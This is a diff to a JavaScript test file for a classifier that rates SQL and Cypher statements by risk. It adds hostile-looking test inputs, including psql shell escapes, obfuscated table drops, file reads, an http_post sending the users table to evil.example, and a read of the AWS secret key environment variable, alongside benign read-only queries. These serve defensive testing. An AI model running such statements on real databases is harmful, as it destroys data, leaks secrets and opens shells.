@@ -89,6 +89,26 @@ describe('a statement that may write is medium, and so is one that nobody though
     'EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1',
     'CREATE (n:Person)',
     'MATCH (n) SET n.a = 1',
+    'SELECT 1 \\! sh',
+    "SELECT 'dr'||'op table users' \\gexec",
+    'SELECT 1 \\g |sh',
+    "SELECT query_to_xml('select pg_re'||'ad_file(1)', true, true, '')",
+    "SELECT cron.schedule('x', '* * * * *', 'dr'||'op table users')",
+    "SELECT net.http_post(url := 'https://evil.example', body := (SELECT jsonb_agg(u) FROM users u))",
+    "SELECT pg_drop_replication_slot('s')",
+    "SELECT pg_file_unlink('x')",
+    'SELECT pg_promote()',
+    "SELECT HTTPURITYPE('http://evil.example/').getclob() FROM dual",
+    "SELECT * FROM url('http://evil.example/?q='||x, CSV)",
+    "SELECT * FROM executable('x.sh', CSV, 'a String')",
+    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
+    'SELECT SYSTEM$CANCEL_ALL_QUERIES(123)',
+    "MATCH (n) RETURN apoc.periodic.submit('x', 'MATCH (n) DET'+'ACH')",
+    "SELECT aws_lambda.invoke('f', '{}')",
+    'SELECT "pg_promote"()',
+    'SELECT pg_promote/**/()',
+    'SELECT pg_promote -- count\n()',
+    "SELECT mine.count('x')",
   ]
   for (const text of statements) {
     it(JSON.stringify(text), () => {
@@ -123,6 +143,11 @@ describe('a single statement that reads says nothing', () => {
     'TABLE t',
     'MATCH (n) RETURN n',
     'SELECT * FROM t FOR SHARE',
+    'WITH recent (id) AS (SELECT id FROM orders), other (id) AS (SELECT 1) SELECT count(*) FROM recent',
+    'SELECT u.name, COALESCE(SUM(o.total), 0) FROM users u LEFT JOIN orders o ON (o.user_id = u.id) GROUP BY u.name',
+    "SELECT date_trunc('month', at), row_number() OVER (PARTITION BY a ORDER BY b) FROM t WHERE a IN (1, 2) AND (b = 1)",
+    'SELECT CAST(a AS decimal(10, 2)), a * (b + 1) FROM (VALUES (1, 2)) AS t (a, b)',
+    'MATCH (n)-[r]->(m) WHERE exists((n)-->()) RETURN labels(n), type(r), count(m)',
   ]
   for (const text of statements) {
     it(text, () => expect([argued(text, false), argued(text, true)]).toEqual(['nothing', 'nothing']))
